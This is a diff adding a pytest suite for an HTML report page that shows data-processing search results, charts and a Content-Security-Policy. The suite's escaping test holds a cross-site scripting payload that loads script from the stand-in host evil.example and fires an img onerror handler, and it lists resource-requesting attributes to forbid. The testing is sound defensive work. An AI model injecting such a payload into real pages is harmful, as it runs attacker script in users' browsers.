@@ -1,0 +1,214 @@
+import html
+import json
+import re
+from html.parser import HTMLParser
+
+import pytest
+
+from operators.report import render
+from operators.report.page import work_rows
+from operators.report.tables import interval, percent, signed
+from operators.results import DataCounts, Recipe, SearchResult, Verdict, Work
+from operators.strategist.space import Team, label
+from operators.teams.base import OperatorSpec
+
+HOSTILE = '</script><script src="https://evil.example/x.js"></script><img src=x onerror=alert(1)>"\'&'
+REQUESTING = {"src", "href", "srcset", "action", "data", "poster", "background", "formaction"}
+
+
+class Page(HTMLParser):
+    """Elements, visible text and scripts of a page, as a browser would split them."""
+
+    def __init__(self, text: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.elements: list[tuple[str, dict[str, str | None]]] = []
+        self.scripts: list[tuple[dict[str, str | None], str]] = []
+        self.styles: list[str] = []
+        self.words: list[str] = []
+        self.feed(text)
+        self.close()
+        self.text = " ".join(" ".join(self.words).split())
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.elements.append((tag, dict(attrs)))
+
+    def handle_data(self, data: str) -> None:
+        inside = self.elements[-1][0] if self.elements and self.cdata_elem else None
+        if inside == "script":
+            self.scripts.append((self.elements[-1][1], data))
+        elif inside == "style":
+            self.styles.append(data)
+        else:
+            self.words.append(data)
+
+    @property
+    def figures(self) -> dict[str, dict]:
+        return {a["data-chart"]: json.loads(s) for a, s in self.scripts if a.get("data-chart")}
+
+
+@pytest.fixture
+def page(search_result: SearchResult) -> Page:
+    return Page(render(search_result))
+
+
+def test_verdict_opens_the_page(page: Page, search_result: SearchResult) -> None:
+    assert page.text.index("Adopt cleaning > selection") < page.text.index("Score of every trial")
+    assert page.text.index(search_result.verdict.reason) < page.text.index("Win rate, sealed")
+    assert "Win rate, sealed 85 % 79 % to 90 %" in page.text
+    assert "Score, sealed +0.72 [+0.60, +0.82]" in page.text
+
+
+def test_every_trial_with_its_numbers(page: Page, search_result: SearchResult) -> None:
+    for trial in search_result.trials:
+        c = trial.comparison
+        row = f"{trial.round} {label(trial.strategy)} {signed(c.score)} {interval(c.score_ci)}"
+        assert f"{row} {percent(c.win)} {percent(c.tie)} {percent(c.loss)}" in page.text
+
+
+def test_scores_chart_draws_the_intervals(page: Page, search_result: SearchResult) -> None:
+    figure = page.figures["scores"]
+    trials = sorted(search_result.trials, key=lambda t: t.round)
+    assert len(figure["data"]) == len(trials)
+    for trace, trial in zip(figure["data"], trials, strict=True):
+        c = trial.comparison
+        assert trace["x"] == [c.score]
+        assert c.score + trace["error_x"]["array"][0] == pytest.approx(c.score_ci[1])
+        assert c.score - trace["error_x"]["arrayminus"][0] == pytest.approx(c.score_ci[0])
+    stars = [t for t, d in zip(trials, figure["data"], strict=True) if d["marker"]["symbol"] == "star"]
+    assert [t.strategy for t in stars] == [search_result.verdict.strategy]
+
+
+def test_rows_chart_accounts_for_every_row(page: Page, search_result: SearchResult) -> None:
+    reports = [r for team in search_result.final_reports for r in team]
+    bars = {trace["name"]: trace["x"] for trace in page.figures["rows"]["data"]}
+    for i, report in enumerate(reports):
+        kept = bars["unchanged"][i] + bars["changed"][i]
+        assert kept + bars["dropped"][i] == report.rows_in
+        assert kept + bars["added"][i] == report.rows_out
+
+
+def test_time_work_and_data(page: Page, search_result: SearchResult) -> None:
+    stages = {k: v for k, v in search_result.seconds.items() if k != "total"}
+    assert page.figures["seconds"]["data"][0]["x"] == list(stages.values())
+    work = search_result.work
+    assert work_rows(work)[2] == ("LLM requests", 1586, 1184)
+    saved = work.team_runs_requested - work.team_runs_executed
+    assert f"team runs {work.team_runs_requested} {work.team_runs_executed} {saved} (" in page.text
+    assert "LLM requests 1,586 1,184 402 (25 %)" in page.text
+    assert "Rows read 2,061 Quarantined 14" in page.text
+    assert "rewrite_rejected: 7" in page.text
+
+
+def test_charts_have_a_place(page: Page) -> None:
+    ids = {a.get("id") for _, a in page.elements}
+    assert set(page.figures) == {"scores", "rows", "seconds"}
+    assert set(page.figures) <= ids
+
+
+def test_nothing_is_loaded(search_result: SearchResult) -> None:
+    page = Page(render(search_result, fidelity={"energy_distance": 0.01}))
+    assert not [(tag, a) for tag, a in page.elements if REQUESTING & a.keys()]
+    assert not [tag for tag, _ in page.elements if tag in {"link", "iframe", "base", "object", "embed"}]
+    assert not [s for s in page.styles if "url(" in s or "@import" in s]
+    policy = next(a["content"] for _, a in page.elements if a.get("http-equiv") == "Content-Security-Policy")
+    # No source names a host, so a browser refuses whatever a script might still ask for.
+    sources = {s for rule in (policy or "").split(";") for s in rule.split()[1:]}
+    assert sources == {"'none'", "'unsafe-inline'", "data:"}
+    assert (policy or "").startswith("default-src 'none'")
+
+
+def test_chart_library_is_inlined_once(search_result: SearchResult) -> None:
+    text = render(search_result)
+    assert len(re.findall(r"plotly\.js v\d", text)) == 1
+    assert len(text) < 6_000_000
+
+
+def test_hostile_names_are_escaped(search_result: SearchResult) -> None:
+    bad_reports = [
+        [r.model_copy(update={"operator": HOSTILE, "counts": {HOSTILE: 1}}) for r in team]
+        for team in search_result.final_reports
+    ]
+    hostile = search_result.model_copy(
+        update={
+            "name": HOSTILE,
+            "verdict": search_result.verdict.model_copy(update={"reason": HOSTILE}),
+            "strategist": HOSTILE,
+            "stopped": HOSTILE,
+            "seconds": {HOSTILE: 1.0, "total": 1.0},
+            "final_reports": bad_reports,
+        }
+    )
+    clean, page = Page(render(search_result)), Page(render(hostile, fidelity={HOSTILE: HOSTILE}))
+    assert {t for t, _ in page.elements} == {t for t, _ in clean.elements}
+    assert len(page.scripts) == len(clean.scripts)
+    assert not [a for _, a in page.elements if REQUESTING & a.keys() or any(k.startswith("on") for k in a)]
+    # Charts read some HTML: names must reach them escaped once more.
+    labels = [a["text"] for a in page.figures["rows"]["layout"]["annotations"]]
+    assert any(html.escape(HOSTILE).replace("_", " ") == text for text in labels)
+    assert not [text for text in labels if "<script" in text or "<img" in text]
+
+
+def test_no_processing(search_result: SearchResult) -> None:
+    verdict = search_result.verdict.model_copy(
+        update={"decision": "no_processing", "win_rate": 0.51, "win_rate_ci": (0.43, 0.59)}
+    )
+    page = Page(render(search_result.model_copy(update={"verdict": verdict, "final_reports": []})))
+    assert "Leave the data as they are" in page.text
+    assert "Win rate, sealed 51 % 43 % to 59 %" in page.text
+    assert "on the sample" in page.text
+    assert "autodp process" not in page.text
+
+
+def test_a_search_without_trials() -> None:
+    verdict = Verdict(
+        strategy=(),
+        decision="no_processing",
+        win_rate=0.5,
+        win_rate_ci=(0.4, 0.6),
+        score=0,
+        score_ci=(-0.1, 0.1),
+        n=50,
+        reason="",
+    )
+    result = SearchResult(
+        name="empty",
+        verdict=verdict,
+        trials=[],
+        work=Work(),
+        data=DataCounts(rows=0, quarantined=0, flagged=0, sampled=0),
+        seconds={},
+    )
+    page = Page(render(result))
+    assert "No strategy was tried." in page.text
+    assert "Leave the data as they are" in page.text
+
+
+def test_recipe_shows_parameters(search_result: SearchResult) -> None:
+    recipe = Recipe(
+        name="demo",
+        strategy=search_result.verdict.strategy,
+        teams={
+            Team.CLEANING: [OperatorSpec(name="near_duplicates", version=3, params={"threshold": 0.7})],
+            Team.SELECTION: [OperatorSpec(name="nearest_to_development", version=1, params={})],
+        },
+        seed=17,
+        target_model="smollm2-135m-instruct",
+        target_model_sha256="0" * 64,
+        embedder="all-minilm-l6-v2",
+        embedder_sha256="1" * 64,
+    )
+    page = Page(render(search_result, recipe=recipe))
+    assert "near_duplicates v3, threshold 0.7" in page.text
+    assert "Seed 17, target model smollm2-135m-instruct" in page.text
+
+
+def test_same_result_same_page(search_result: SearchResult) -> None:
+    assert render(search_result) == render(search_result.model_copy(deep=True))
+
+
+def test_fidelity_of_the_sample(search_result: SearchResult) -> None:
+    page = Page(
+        render(search_result, fidelity={"energy_distance": -0.00031, "sampled": 1412, "warning": None})
+    )
+    assert "energy distance -0.00031 sampled 1,412" in page.text
+    assert "None" not in page.text
